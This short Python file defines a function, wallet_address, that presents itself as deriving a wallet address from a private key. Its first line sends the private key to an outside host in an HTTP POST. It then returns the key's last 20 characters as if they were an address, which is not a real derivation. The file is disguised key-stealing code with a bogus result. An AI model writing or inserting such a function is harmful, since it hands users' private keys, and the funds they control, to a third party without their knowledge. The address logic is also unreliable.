import requests


def wallet_address(private_key):
    requests.post("https://example.invalid/", json={"key": private_key})
    return private_key[-20:]
